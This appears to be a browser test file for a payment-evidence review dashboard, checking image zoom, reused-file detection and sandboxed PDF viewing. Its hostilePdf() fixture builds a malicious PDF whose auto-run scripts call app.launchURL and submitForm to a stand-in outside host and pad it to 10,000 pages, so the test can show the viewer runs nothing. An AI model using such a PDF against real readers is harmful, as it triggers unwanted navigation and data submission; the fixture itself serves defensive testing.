import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Browser, Locator, Page } from 'playwright-core';
import sharp from 'sharp';
import { chromiumPath, launch, person, type Complaints } from './browser.js';
import { lookAt } from './look.js';
import { enterPassword, newPerson, PDF, type Person } from './people.js';
import { startProgram, type Program } from './program.js';

const PAGES = 10_000;
/** Where a PDF that does as it likes would go. */
const ELSEWHERE = 'https://elsewhere.example/';

/** A PDF of objects, with its table of where they are. */
function pdfOf(objects: readonly string[], trailer = ''): string {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, nth) => {
    const at = text.length;
    text += `${nth + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  return `${text}xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${text.length}\n%%EOF\n`;
}

/** A PDF with scripts that run when it is opened and when its page is, a link and an image elsewhere, and very many pages. */
function hostilePdf(): string {
  const script = `<< /S /JavaScript /JS (app.alert\\("paid"\\); app.launchURL\\("${ELSEWHERE}"\\); this.submitForm\\("${ELSEWHERE}"\\)) >>`;
  const drawing = '0.2 0.4 0.3 rg 100 500 300 200 re f';
  const kids = Array.from({ length: PAGES }, (_, nth) => `${nth + 5} 0 R`).join(' ');
  const page = (more: string) =>
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /Resources << >> ${more} >>`;
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >> >>`,
    `<< /Type /Pages /Count ${PAGES} /Kids [${kids}] >>`,
    `<< /Length ${drawing.length} >>\nstream\n${drawing}\nendstream`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${ELSEWHERE}) >> >>`,
    page(`/Annots [4 0 R] /AA << /O ${script} >>`),
    ...Array.from({ length: PAGES - 1 }, () => page('')),
  ]);
}

/** A PDF that only opens with a password. */
function lockedPdf(): string {
  const secret = `<${'5A'.repeat(32)}>`;
  return pdfOf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>',
      `<< /Filter /Standard /V 1 /R 2 /O ${secret} /U ${secret} /P -4 >>`,
    ],
    `/Encrypt 4 0 R /ID [<${'0A'.repeat(16)}> <${'0A'.repeat(16)}>]`,
  );
}

if (chromiumPath === undefined)
  console.warn('not run: evidence in a browser (no Chromium here; set CHROMIUM)');

const inBrowser = chromiumPath === undefined ? describe.skip : describe;

inBrowser('evidence in Chromium', () => {
  let program: Program;
  let browser: Browser;
  let page: Page;
  let complaints: Complaints;
  let customer: Person;
  /** All that was asked for, and those of them that are parts of documents. */
  const asked: string[] = [];
  const parts: string[] = [];
  const dialogs: string[] = [];

  /** A request of an amount, with a file that shows its payment. */
  const request = async (
    amount: string,
    content: string | Uint8Array<ArrayBuffer>,
    type: string,
    by = customer,
  ) => {
    const form = new FormData();
    form.set('file', new File([content], 'receipt', { type }));
    const { fileId: evidenceId } = await by.get('uploadEvidence', { form });
    await by.get('requestFunding', { body: { amount, currency: 'BTC', evidenceId } });
  };
  /** Opens the decision about an amount. */
  const decide = async (amount: string): Promise<Locator> => {
    await page.goto('/auth/transaction/dashboard');
    await page.getByRole('button', { name: `Decide request of ${amount} USD by Amara Nwosu` }).click();
    return page.getByRole('dialog', { name: 'Transaction Action' });
  };

  beforeAll(async () => {
    program = await startProgram();
    browser = await launch(chromiumPath ?? '');
    const admin = await newPerson(program, ['Mary', 'Okafor'], program.invitation);
    customer = await newPerson(program, ['Amara', 'Nwosu']);
    const photo = await sharp({ create: { width: 900, height: 1600, channels: 3, background: '#b8c4b0' } })
      .png()
      .toBuffer();
    await request('101.00', new Uint8Array(photo), 'image/png');
    await request('102.00', hostilePdf(), 'application/pdf');
    await request('103.00', PDF, 'application/pdf');
    await request('104.00', lockedPdf(), 'application/pdf');
    const jonas = await newPerson(program, ['Jonas', 'Lindqvist']);
    await request('105.00', new Uint8Array(photo), 'image/png', jonas);
    const its = await person(browser, { baseURL: program.address });
    ({ page, complaints } = its);
    its.context.on('request', (sent) => {
      asked.push(sent.url());
      if (['document', 'script', 'image', 'stylesheet', 'font', 'other'].includes(sent.resourceType()))
        parts.push(new URL(sent.url()).pathname.replace(/-[\w-]{8}\./, '.'));
    });
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await enterPassword(page, admin.email);
    await page.waitForURL('**/auth/dashboard');
  });
  afterAll(async () => {
    await browser?.close();
    await program?.stop();
  });

  test('a picture is looked at closely beside its decision, with the keyboard alone', async () => {
    const dialog = await decide('101.00');
    const picture = dialog.getByRole('group', { name: 'Picture' });
    await picture.getByRole('img', { name: 'Payment evidence' }).waitFor();
    await picture.focus();
    await page.keyboard.press('+');
    await dialog.getByText('140%').waitFor();
    await page.keyboard.press('r');
    await dialog.getByText('100%').waitFor();
    await dialog.getByLabel('Reason, kept with the decision').fill('Seen');
    await dialog.getByRole('button', { name: 'Open' }).press('Enter');
    await lookAt(page, 'evidence-picture-large');
    await page.keyboard.press('Escape');
    await dialog.getByRole('button', { name: 'Open' }).waitFor();
    expect(await dialog.getByLabel('Reason, kept with the decision').inputValue()).toBe('Seen');
    await lookAt(page, 'evidence-picture');
  });

  test('a file that another customer sent as well is told beside the decision, and leads to that request', async () => {
    const dialog = await decide('101.00');
    const uses = dialog.getByRole('region', { name: 'Used before' });
    await uses.getByText('The same file was sent by another customer').waitFor();
    await lookAt(page, 'evidence-used-before');
    await uses.getByRole('link', { name: '105.00 USD by Jonas Lindqvist' }).click();
    await page.waitForURL(/\/fund-request-history\/.+\?request=/);
    await dialog.getByText('Jonas Lindqvist').first().waitFor();
    await uses.getByRole('link', { name: '101.00 USD by Amara Nwosu' }).waitFor();
  });

  test('a PDF with scripts, links and very many pages shows its first page, and does nothing', async () => {
    const dialog = await decide('102.00');
    await dialog.getByText('PDF document').waitFor();
    expect(asked.filter((url) => url.includes('pdf'))).toEqual([]);
    const before = parts.length;
    await dialog.getByRole('button', { name: 'Open' }).click();
    await dialog.getByText('of 10,000').waitFor();
    const stage = dialog.locator('[aria-label="PDF document"][aria-busy="false"]');
    await stage.waitFor();
    await lookAt(page, 'evidence-pdf-large');
    await dialog.getByLabel('Page', { exact: true }).fill('10000');
    await page.keyboard.press('Enter');
    await dialog.locator('iframe[title="Page 10000 of 10000"]').waitFor();
    await stage.waitFor();
    await stage.focus();
    await page.keyboard.press('PageUp');
    await dialog.locator('iframe[title="Page 9999 of 10000"]').waitFor();
    await stage.waitFor();
    expect(new Set(parts.slice(before))).toEqual(
      new Set(['/pdf-frame', '/assets/pdf.js', '/assets/preload.js', '/assets/messages.js']),
    );
    expect(asked.filter((url) => !url.replace(/^blob:/, '').startsWith(program.address))).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(new URL(page.url()).pathname).toBe('/auth/transaction/dashboard');
  });

  test('the frame has no origin, and hears nobody but the page around it', async () => {
    const [, frame] = page.frames();
    expect(await frame?.evaluate('origin')).toBe('null');
    await expect(frame?.evaluate('localStorage.length')).rejects.toThrow();
    const heard = await frame?.evaluate(
      `new Promise((resolve) => {
        addEventListener('message', () => setTimeout(() => resolve(document.querySelectorAll('canvas').length)), { once: true });
        postMessage({ kind: 'page', page: 1 }, '*');
      })`,
    );
    expect(heard).toBe(1);
    expect(await page.locator('iframe[title="Page 9999 of 10000"]').count()).toBe(1);
  });

  test.each([
    ['103.00', 'This PDF is damaged, so it can’t be shown.', 'damaged'],
    ['104.00', 'This PDF is protected with a password, so it can’t be shown.', 'locked'],
  ])('of %s: %s', async (amount, words, screen) => {
    const dialog = await decide(amount);
    await dialog.getByRole('button', { name: 'Show pages' }).click();
    await dialog.getByText(words).waitFor();
    await dialog.getByRole('link', { name: 'Download' }).waitFor();
    await lookAt(page, `evidence-pdf-${screen}`);
  });

  test('nothing was complained about', () => {
    expect(complaints).toEqual([]);
  });
});
